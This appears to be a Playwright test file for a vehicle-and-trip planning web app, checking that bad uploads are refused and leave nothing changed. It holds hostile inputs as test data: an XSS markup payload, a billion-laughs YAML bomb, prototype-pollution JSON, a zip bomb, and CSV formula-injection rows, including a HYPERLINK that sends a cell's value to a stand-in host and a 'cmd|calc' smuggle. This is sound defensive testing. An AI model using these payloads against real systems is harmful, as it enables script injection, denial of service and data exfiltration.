import { mkdtempSync, openSync, ftruncateSync, closeSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Page } from '@playwright/test';
import { readGarage } from '@waymend/garage/file/read-garage';
import { writeGarage } from '@waymend/garage/file/write-garage';
import type { Garage } from '@waymend/garage/record/schema';
import { sheetParts, zip } from '../../../packages/garage/test/import/zip.ts';
import { showSheet, titleField } from './support/demo.ts';
import { expect, test } from './support/planner.ts';

type Given = Parameters<ReturnType<Page['locator']>['setInputFiles']>[0];

const text = (name: string, content: string): Given => ({
  name,
  mimeType: 'text/plain',
  buffer: Buffer.from(content),
});
const binary = (name: string, bytes: Uint8Array): Given => ({
  name,
  mimeType: 'application/octet-stream',
  buffer: Buffer.from(bytes),
});

/** Ten layers of ten: a billion names out of a few hundred characters. */
const laughs = [
  'a: &a [x, x, x, x, x, x, x, x, x, x]',
  ...'bcdefghij'.split('').map((name, n) => {
    const before = 'abcdefghi'[n] ?? 'a';
    return `${name}: &${name} [${Array(10).fill(`*${before}`).join(', ')}]`;
  }),
].join('\n');

const MARKUP =
  '<img src=x onerror="window.breach(`script in a name`)"><script>window.breach(`script`)</script>';

/** Refuses in a sentence, within seconds, and leaves everything as it was. */
const NO_GARAGES: readonly (readonly [string, Given])[] = [
  ['nothing at all', text('empty.yaml', '')],
  ['a shopping list', text('list.yaml', '- bread\n- milk\n')],
  ['YAML a hundred thousand levels deep', text('deep.yaml', '['.repeat(100_000))],
  ['YAML whose aliases multiply', text('laughs.yaml', laughs)],
  [
    'JSON that reaches for prototypes',
    text('proto.json', '{"__proto__":{"waymend":1},"waymend":1,"name":"x"}'),
  ],
  [
    'a picture',
    binary(
      'picture.yaml',
      Uint8Array.from({ length: 4096 }, (_, n) => (n * 73) % 256),
    ),
  ],
  ['a zip', binary('garage.yaml', zip({ 'garage.yaml': 'waymend: 1' }))],
  ['a garage of a later version', text('later.yaml', 'waymend: 99\nname: x\n')],
  [
    'markup instead of a garage',
    text('page.yaml', `waymend: 1\nname: ${JSON.stringify(MARKUP)}\nvehicles: 7\n`),
  ],
];

test('no file that is not a garage changes anything; each is refused in a sentence', async ({ page }) => {
  await page.goto('./');
  const chooser = page.locator('main input[type=file]');
  for (const [what, file] of NO_GARAGES)
    await test.step(what, async () => {
      await chooser.setInputFiles(file);
      await expect(page.getByText('Nothing was changed.')).toBeVisible();
      await expectUntouched(page);
      await page.reload();
    });
});

test('a file of 100 MB is refused by its size, before any of it is read', async ({ page }) => {
  const folder = mkdtempSync(join(tmpdir(), 'waymend-large-'));
  const large = join(folder, 'large.yaml');
  const handle = openSync(large, 'w');
  ftruncateSync(handle, 100_000_000);
  closeSync(handle);
  await page.goto('./');
  await page.locator('main input[type=file]').setInputFiles(large);
  await expect(page.getByText(/large\.yaml has 100.MB/)).toBeVisible();
  await expectUntouched(page);

  await showSheet(page, '/garage/belongings/paste');
  await page.locator('main input[type=file]').setInputFiles(large);
  await expect(page.getByRole('alert')).toContainText(/large\.yaml has 100.MB/);
  await expectUntouched(page);
  rmSync(folder, { recursive: true, force: true });
});

test('no list that is none changes anything', async ({ page }) => {
  const lists: readonly (readonly [string, Given])[] = [
    [
      'a zip bomb',
      binary(
        'bomb.xlsx',
        zip({ ...sheetParts([['name']]), 'xl/worksheets/sheet2.xml': new Uint8Array(80_000_000) }),
      ),
    ],
    [
      'a spreadsheet cut short',
      binary('cut.xlsx', zip(sheetParts([['name'], ['ratchet']])).subarray(0, 200)),
    ],
    [
      'a picture',
      binary(
        'picture.csv',
        Uint8Array.from({ length: 4096 }, (_, n) => (n * 73) % 256),
      ),
    ],
  ];
  await page.goto('./#/garage/belongings/paste');
  for (const [what, file] of lists)
    await test.step(what, async () => {
      await page.locator('main input[type=file]').setInputFiles(file);
      await expect(page.getByRole('alert')).toContainText('Nothing was changed.');
      await expectUntouched(page);
      await page.reload();
    });
});

test('formulas and markup in a table are text: not understood, shown as they are, never run', async ({
  page,
}) => {
  const rows = [
    'name,count,grams',
    '"=HYPERLINK(""http://elsewhere.example/?""&A1)",1,100',
    '+1+cmd|calc,1,100',
    '@SUM(A1:A9),1,100',
    `"${MARKUP.replaceAll('"', '""')}",1,100`,
    '3/8 ratchet,1,180',
  ];
  await page.goto('./#/garage/belongings/paste');
  await page.locator('main input[type=file]').setInputFiles(text('table.csv', rows.join('\n')));
  const lines = page.getByRole('list', { name: 'Lines as they were understood' });
  await expect(lines.getByText('=HYPERLINK').first()).toBeVisible();
  await expect(lines.getByText('<img src=x').first()).toBeVisible();
  await expect(page.locator('main img')).toHaveCount(0);
  // Only the ratchet is understood; nothing is added before somebody says so.
  await expect(page.getByRole('button', { name: 'Add this one' })).toBeEnabled();
  await expectUntouched(page);
});

test('markup in every name of a garage is shown as text on every sheet', async ({ page }) => {
  const demo = readFileSync(
    fileURLToPath(new URL('../../../examples/demo.garage.yaml', import.meta.url)),
    'utf8',
  );
  const read = readGarage(demo, 'demo.garage.yaml');
  if (!read.ok) throw new Error('the demo cannot be read');
  const evil = writeGarage(marked(read.value));
  await page.goto('./');
  await page.locator('main input[type=file]').setInputFiles(text('evil.yaml', evil));
  await expect(titleField(page, 'Trip')).toContainText('<img src=x');
  for (const path of [
    '/garage/belongings',
    '/garage/trip',
    '/garage/people',
    '/garage/record',
    '/vehicle/load',
    '/vehicle/sizes',
    '/vehicle/fittings',
    '/vehicle/walk',
    '/vehicle/data',
    '/kit/answer',
    '/kit/limits',
    '/kit/gaps',
  ]) {
    await showSheet(page, path);
    await expect(page.locator('main img[src=x], main script'), path).toHaveCount(0);
  }
});

/** The same garage with markup in the name of everything that has one. */
function marked(garage: Garage): Garage {
  const renamed = <T extends object>(table: Readonly<Record<string, T>>): Record<string, T> =>
    Object.fromEntries(
      Object.entries(table).map(([id, one]) => [
        id,
        'name' in one ? { ...one, name: `${MARKUP} ${id}` } : one,
      ]),
    );
  return {
    ...garage,
    name: MARKUP,
    vehicles: renamed(garage.vehicles),
    people: renamed(garage.people),
    berths: renamed(garage.berths),
    belongings: renamed(garage.belongings),
    loads: renamed(garage.loads),
    trips: renamed(garage.trips),
    legs: renamed(garage.legs),
  };
}

/** Nothing was recorded and there is nothing to take back. */
async function expectUntouched(page: Page): Promise<void> {
  await expect(titleField(page, 'Trip')).toHaveText('none yet');
  await expect(page.getByRole('button', { name: 'Undo' })).toBeDisabled();
}
